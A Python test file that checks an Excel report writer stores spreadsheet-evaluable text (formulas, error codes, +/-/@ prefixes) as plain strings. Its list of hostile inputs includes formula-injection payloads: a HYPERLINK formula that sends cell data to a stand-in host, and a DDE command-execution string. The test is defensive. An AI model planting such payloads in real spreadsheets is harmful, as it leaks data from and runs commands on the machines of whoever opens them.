"""Issue 14 item 1: text a spreadsheet would evaluate (formulas, error codes, +/-/@ prefixes) is stored in
the Excel report as plain strings, in every field that comes from a model, a dataset or a judge."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from ft_assets.phases.metrics import MetricScores
from ft_assets.phases.reports import write_report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"click")',
    "= x +",
    "+1",
    "-1",
    "@SUM(A1)",
    "=1+1",
    "#N/A",
    "=",
    " =SUM(A1:A3) ",
    "=cmd|' /C calc'!A0",
]


def _rows(prefix: str) -> list[dict]:
    return [
        {
            "id": text,
            "system_prompt": text,
            "user_prompt": text,
            "ground_truth": text,
            "assistant_response": f"{prefix}{text}" if prefix else text,
        }
        for text in HOSTILE
    ]


@pytest.fixture
def workbook_path(tmp_path: Path) -> Path:
    rows, base_rows = _rows(""), _rows("")[::-1]
    count = len(HOSTILE)
    scores = MetricScores(per_row={"exact_match": [1.0] * count}, errors={"exact_match": list(HOSTILE)})
    base_scores = MetricScores(per_row={"exact_match": [0.0] * count}, errors={"exact_match": [None] * count})
    paths = write_report(
        tmp_path / "report",
        rows=rows,
        scores=scores,
        baseline_rows=base_rows,
        baseline_scores=base_scores,
        primary_metric="exact_match",
        provenance={"fine_tuned_model": HOSTILE[0], "test_dataset": "=2*3"},
        durations_s={},
        definitions={"exact_match": {"library": "=SUM(1)", "normalisation": "@strip"}},
        corpus_scores={"fine_tuned": {}, "base": None},
    )
    return paths.xlsx_path


def test_no_cell_of_the_report_is_a_formula_or_an_error(workbook_path: Path) -> None:
    workbook = load_workbook(workbook_path)
    kinds = {
        (sheet.title, cell.coordinate): cell.data_type
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }
    assert kinds and not {place: kind for place, kind in kinds.items() if kind in ("f", "e")}


def test_hostile_text_comes_back_as_the_exact_original_string(workbook_path: Path) -> None:
    sheet = load_workbook(workbook_path)["Per-sample"]
    header = [cell.value for cell in sheet[1]]
    columns = ["id", "system_prompt", "user_prompt", "ground_truth", "response", "base_response", "errors"]
    for offset, text in enumerate(HOSTILE, start=2):
        cells = {name: sheet.cell(row=offset, column=header.index(name) + 1) for name in columns}
        expected = {name: text for name in columns} | {"errors": f"exact_match: {text}"}
        assert {name: cell.value for name, cell in cells.items()} == expected
        assert {cell.data_type for cell in cells.values()} == {"s"}


def test_definitions_and_provenance_are_text_too(workbook_path: Path) -> None:
    values = {
        cell.value: cell.data_type
        for row in load_workbook(workbook_path)["Summary"].iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    assert values["=SUM(1)"] == values["@strip"] == values[HOSTILE[0]] == values["=2*3"] == "s"
